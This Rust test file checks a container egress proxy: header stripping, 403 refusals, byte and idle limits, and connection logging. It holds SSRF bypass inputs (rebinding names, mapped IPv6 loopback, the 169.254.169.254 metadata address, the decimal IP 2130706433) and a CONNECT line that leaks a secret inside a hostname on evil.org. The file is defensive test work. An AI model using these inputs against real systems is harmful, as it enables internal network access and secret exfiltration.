//! The way out of a real container, and the proxy alone against servers on loopback.

use std::io;
use std::net::IpAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use async_trait::async_trait;
use domain::id::RunId;
use flowcell_worker::config::EgressConfig;
use flowcell_worker::egress::{Closed, Policy, Proxy, Resolve};
use proto::connection::{Connection, ConnectionState};
use proto::message::EgressRule;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, UnixListener, UnixStream};
use tokio::time::timeout;
use uuid::Uuid;

use crate::cluster::Cluster;
use crate::skip;

pub(crate) fn rule(host: &str, port: u16, private: bool) -> EgressRule {
    EgressRule { host: host.into(), port, private, tcp: false }
}

pub(crate) fn tcp(host: &str, port: u16) -> EgressRule {
    EgressRule { tcp: true, ..rule(host, port, true) }
}

/// Answers every request with its own head and body; counts connections.
pub(crate) async fn server() -> (u16, Arc<AtomicUsize>) {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let count = Arc::new(AtomicUsize::new(0));
    let counting = count.clone();
    tokio::spawn(async move {
        loop {
            let (mut stream, _) = listener.accept().await.unwrap();
            counting.fetch_add(1, Ordering::SeqCst);
            tokio::spawn(async move {
                let mut seen = Vec::new();
                let mut buffer = [0; 4096];
                loop {
                    let count = stream.read(&mut buffer).await.unwrap_or(0);
                    seen.extend_from_slice(&buffer[..count]);
                    let text = String::from_utf8_lossy(&seen).into_owned();
                    if count == 0
                        || (text.contains("\r\n\r\n") && !text.contains("POST"))
                        || text.ends_with("the body")
                        || text.ends_with("0\r\n\r\n")
                    {
                        let head = format!(
                            "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
                            text.len()
                        );
                        let _ = stream.write_all((head + &text).as_bytes()).await;
                        return;
                    }
                }
            });
        }
    });
    (port, count)
}

/// Names as a hostile DNS server would give them.
#[derive(Debug)]
pub(crate) struct Names(pub(crate) Vec<(&'static str, Vec<IpAddr>)>);

#[async_trait]
impl Resolve for Names {
    async fn resolve(&self, host: &str) -> io::Result<Vec<IpAddr>> {
        let found = self.0.iter().find(|(name, _)| *name == host);
        found.map(|(_, addresses)| addresses.clone()).ok_or(io::ErrorKind::NotFound.into())
    }
}

pub(crate) struct Cell {
    pub(crate) socket: std::path::PathBuf,
    pub(crate) proxy: Proxy,
    _dir: tempfile::TempDir,
}

pub(crate) async fn cell(
    rules: Vec<EgressRule>,
    names: Names,
    change: impl FnOnce(&mut EgressConfig),
) -> Cell {
    let dir = tempfile::tempdir().unwrap();
    let socket = dir.path().join("egress.sock");
    let mut settings = EgressConfig { connect_ms_max: 2_000, ..EgressConfig::default() };
    change(&mut settings);
    let closed = Arc::new(Closed::of(&settings, &names).await);
    let policy = Policy {
        run: RunId(Uuid::nil()),
        cell: "N-1".into(),
        rules,
        settings,
        closed,
        resolver: Arc::new(names),
    };
    let proxy = Proxy::open(UnixListener::bind(&socket).unwrap(), policy);
    Cell { socket, proxy, _dir: dir }
}

impl Cell {
    /// A tunnel that was made.
    pub(crate) async fn tunnel(&self, host: &str, port: u16) -> UnixStream {
        let request = format!("CONNECT {host}:{port} HTTP/1.1\r\nHost: x\r\n\r\n");
        let mut stream = UnixStream::connect(&self.socket).await.unwrap();
        stream.write_all(request.as_bytes()).await.unwrap();
        let mut head = Vec::new();
        while !head.ends_with(b"\r\n\r\n") {
            head.push(stream.read_u8().await.unwrap());
        }
        assert!(head.starts_with(b"HTTP/1.1 200 "), "{}", String::from_utf8_lossy(&head));
        stream
    }

    /// The connections, once they have all ended.
    pub(crate) async fn ended(&self) -> Vec<Connection> {
        let ended = async {
            loop {
                let entries = self.proxy.ledger().log().entries;
                if entries.iter().all(|entry| entry.state != ConnectionState::Open) {
                    return entries;
                }
                tokio::time::sleep(Duration::from_millis(5)).await;
            }
        };
        timeout(Duration::from_secs(5), ended).await.expect("a connection stays open")
    }

    pub(crate) async fn ask(&self, request: &str) -> String {
        let mut stream = UnixStream::connect(&self.socket).await.unwrap();
        stream.write_all(request.as_bytes()).await.unwrap();
        let mut answer = Vec::new();
        timeout(Duration::from_secs(10), stream.read_to_end(&mut answer)).await.unwrap().unwrap();
        String::from_utf8_lossy(&answer).into_owned()
    }

    pub(crate) async fn get(&self, host: &str, port: u16) -> String {
        self.ask(&format!(
            "GET http://{host}:{port}/path?q=1 HTTP/1.1\r\nHost: evil.org\r\nConnection: close, X-Hop\r\n\
             X-Hop: 1\r\nX-End: 2\r\nProxy-Authorization: Basic x\r\n\r\n"
        ))
        .await
    }
}

pub(crate) fn ip(text: &str) -> IpAddr {
    text.parse().unwrap()
}

#[tokio::test]
async fn plain_requests_are_forwarded_in_origin_form() {
    let (port, count) = server().await;
    let cell = cell(vec![rule("127.0.0.1", port, true)], Names(vec![]), |_| {}).await;
    let answer = cell.get("127.0.0.1", port).await;
    assert!(answer.starts_with("HTTP/1.1 200 OK"), "{answer}");
    let (_, seen) = answer.split_once("\r\n\r\n").unwrap();
    let seen = seen.to_lowercase();
    assert!(seen.starts_with("get /path?q=1 http/1.1\r\n"), "{seen}");
    assert!(seen.contains(&format!("host: 127.0.0.1:{port}\r\n")), "{seen}");
    assert!(seen.contains("x-end: 2"), "{seen}");
    for hop in ["x-hop", "proxy-authorization", "connection:", "evil.org"] {
        assert!(!seen.contains(hop), "{hop} in {seen}");
    }
    let body = "POST http://127.0.0.1:{port}/ HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\
                Content-Length: 8\r\n\r\nthe body";
    let answer = cell.ask(&body.replace("{port}", &port.to_string())).await;
    assert!(answer.ends_with("the body"), "{answer}");
    let chunked = "POST http://127.0.0.1:{port}/ HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\
                   Transfer-Encoding: chunked\r\n\r\n3\r\nabc\r\n0\r\n\r\n";
    let answer = cell.ask(&chunked.replace("{port}", &port.to_string())).await;
    assert!(answer.contains("abc"), "{answer}");
    assert_eq!(count.load(Ordering::SeqCst), 3);
    let entries = cell.ended().await;
    assert_eq!(entries.len(), 3);
    assert!(entries.iter().all(|entry| entry.state == ConnectionState::Closed), "{entries:?}");
    assert!(entries.iter().all(|entry| entry.bytes_up > 50 && entry.bytes_down > 50));
}

#[tokio::test]
async fn what_is_not_allowed_gets_403_and_no_packet() {
    let (port, count) = server().await;
    let names = || {
        Names(vec![
            ("localhost", vec![ip("127.0.0.1")]),
            ("rebind.org", vec![ip("127.0.0.1")]),
            ("mixed.org", vec![ip("93.184.215.14"), ip("127.0.0.1")]),
            ("mapped.org", vec![ip("::ffff:127.0.0.1")]),
            ("six.org", vec![ip("2002:7f00:1::")]),
            ("metadata.org", vec![ip("169.254.169.254")]),
        ])
    };
    let open: Vec<EgressRule> =
        ["rebind.org", "mixed.org", "mapped.org", "six.org", "metadata.org", "127.0.0.1", "::1"]
            .map(|host| rule(host, port, false))
            .into();
    let shut = cell(open, names(), |_| {}).await;
    for host in [
        "127.0.0.1",
        "[::1]",
        "[::ffff:127.0.0.1]",
        "localhost",
        "LOCALHOST.",
        "rebind.org",
        "mixed.org",
        "mapped.org",
        "six.org",
        "metadata.org",
        "169.254.169.254",
        "0.0.0.0",
        "2130706433",
        "unknown.org",
    ] {
        let answer = shut.get(host, port).await;
        assert!(answer.starts_with("HTTP/1.1 403 "), "{host}: {answer}");
        assert!(
            answer.contains("egress_refused") && answer.contains(&port.to_string()),
            "{answer}"
        );
        let connect =
            format!("CONNECT {host}:{port} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n");
        let answer = shut.ask(&connect).await;
        assert!(answer.starts_with("HTTP/1.1 403 "), "{host}: {answer}");
    }
    let private = vec![rule("metadata.org", port, true), rule("rebind.org", port, true)];
    let private = cell(private, names(), |settings| {
        settings.deny = vec!["127.0.0.0/8".parse().unwrap()];
    })
    .await;
    for host in ["metadata.org", "rebind.org"] {
        let answer = private.get(host, port).await;
        assert!(answer.starts_with("HTTP/1.1 403 "), "{host}: {answer}");
    }
    assert_eq!(count.load(Ordering::SeqCst), 0, "nothing was dialled");
    let refused = |entry: &Connection| entry.state == ConnectionState::Refused;
    assert!(shut.ended().await.iter().all(refused));
}

#[tokio::test]
async fn what_is_no_proxy_request_is_refused() {
    let (port, count) = server().await;
    let cell = cell(vec![rule("127.0.0.1", port, true)], Names(vec![]), |_| {}).await;
    for request in [
        "GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n".to_owned(),
        format!("GET https://127.0.0.1:{port}/ HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"),
        format!("GET http://a@127.0.0.1:{port}/ HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"),
        "CONNECT 127.0.0.1 HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".to_owned(),
        "garbage\r\n\r\n".to_owned(),
    ] {
        let answer = cell.ask(&request).await;
        assert!(answer.starts_with("HTTP/1.1 400 "), "{request}: {answer}");
    }
    assert_eq!(count.load(Ordering::SeqCst), 0);
}

#[tokio::test]
async fn bytes_and_silence_have_limits() {
    let (port, _) = server().await;
    let rules = vec![tcp("127.0.0.1", port)];
    let small = cell(rules.clone(), Names(vec![]), |settings| settings.bytes_max = 100).await;
    let answer = small.get("127.0.0.1", port).await;
    assert!(!answer.contains("x-end"), "{answer}");
    let cut = small.ended().await;
    assert_eq!(cut[0].state, ConnectionState::Cut);
    assert!(cut[0].reason.as_ref().unwrap().contains("worker.egress.bytes_max"), "{cut:?}");
    let answer = small.get("127.0.0.1", port).await;
    assert!(answer.starts_with("HTTP/1.1 429 ") && answer.contains("bytes_max"), "{answer}");
    let quiet = cell(rules, Names(vec![]), |settings| settings.idle_ms_max = 200).await;
    let mut stream = quiet.tunnel("127.0.0.1", port).await;
    let mut all = Vec::new();
    timeout(Duration::from_secs(5), stream.read_to_end(&mut all)).await.unwrap().unwrap();
    assert!(quiet.ended().await[0].reason.as_ref().unwrap().contains("idle_ms_max"));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_container_gets_out_only_through_its_rules() {
    if skip() {
        return;
    }
    let (port, count) = server().await;
    let cluster = Cluster::start().await;
    let get = |host: &str| {
        format!("GET http://{host}:{port}/x HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
    };
    let answer = cluster.egress(&get("127.0.0.1"), vec![]).await;
    assert!(answer.starts_with("no egress"), "{answer}");
    let answer = cluster.egress(&get("127.0.0.1"), vec![rule("127.0.0.1", port, false)]).await;
    assert!(answer.starts_with("HTTP/1.1 403"), "{answer}");
    assert_eq!(count.load(Ordering::SeqCst), 0);
    let answer = cluster.egress(&get("127.0.0.1"), vec![rule("127.0.0.1", port, true)]).await;
    assert!(answer.starts_with("HTTP/1.1 200") && answer.contains("GET /x"), "{answer}");
    cluster.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn what_a_container_connects_to_stays_known() {
    if skip() {
        return;
    }
    let (port, _) = server().await;
    let cluster = Cluster::start().await;
    let get = |host: &str| {
        format!("GET http://{host}:{port}/x HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
    };
    let with = |behaviour: &str, request: &str| {
        let mut assignment = cluster.assignment(behaviour, request);
        assignment.egress = vec![tcp("127.0.0.1", port)];
        assignment
    };
    // Told before the report, and masked: a refused name is a way to show a secret, too.
    let leak = "CONNECT key-4711aaaa.Evil.org:443 HTTP/1.1\r\nConnection: close\r\n\r\n";
    let mut assignment = with("egress", leak);
    assignment.task.variables.insert("KEY".into(), "KEY-4711AAAA".into());
    assignment.secrets.insert("KEY".into());
    let attempt = assignment.attempt;
    cluster.result(assignment).await;
    let told = cluster.scheduler.with(|state| state.connections.get(&attempt).cloned());
    let told = told.expect("told before the report").entries;
    assert_eq!((told[0].host.as_str(), told[0].port), ("**********.evil.org", 443));
    assert_eq!(told[0].state, ConnectionState::Refused);
    let reason = told[0].reason.clone().unwrap();
    assert!(reason.contains("no egress rule") && !reason.contains("4711"), "{reason}");

    let attempt = cluster.submit(with("egress", &get("127.0.0.1"))).await;
    cluster.report(attempt).await;
    let told = cluster.connections(attempt).await;
    assert_eq!((told.len(), told[0].state), (1, ConnectionState::Closed));
    assert!(told[0].bytes_up > 0 && told[0].bytes_down > 0, "{told:?}");

    // An attempt that is told to stop has no report; its connections are known all the same.
    let connect = format!("CONNECT 127.0.0.1:{port} HTTP/1.1\r\nHost: x\r\n\r\n");
    let attempt = cluster.submit(with("egress-hold", &connect)).await;
    let open = async {
        while cluster.events(attempt.run).await.is_empty() {
            tokio::time::sleep(Duration::from_millis(10)).await;
        }
    };
    timeout(Duration::from_secs(30), open).await.unwrap();
    cluster.order_stop(attempt).await;
    let told = cluster.connections(attempt).await;
    assert_eq!((told[0].host.as_str(), told[0].port), ("127.0.0.1", port));
    assert_eq!(told[0].state, ConnectionState::Closed);
    cluster.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn names_of_tcp_rules_resolve_inside() {
    if skip() {
        return;
    }
    let cluster = Cluster::start().await;
    let hosts = async |rules| {
        let mut assignment = cluster.assignment("hosts", "");
        assignment.egress = rules;
        crate::cluster::text_of(&cluster.result(assignment).await)
    };
    let plain = hosts(vec![rule("api.org", 443, false)]).await;
    assert!(plain.contains("127.0.0.1\tlocalhost") && !plain.contains("127.1.0."), "{plain}");
    let mapped = hosts(vec![tcp("db.internal", 5432), tcp("cache.internal", 6379)]).await;
    assert_eq!(
        mapped.strip_prefix(&plain),
        Some("127.1.0.1\tdb.internal\n127.1.0.2\tcache.internal\n"),
        "{mapped}"
    );
    cluster.stop().await;
}
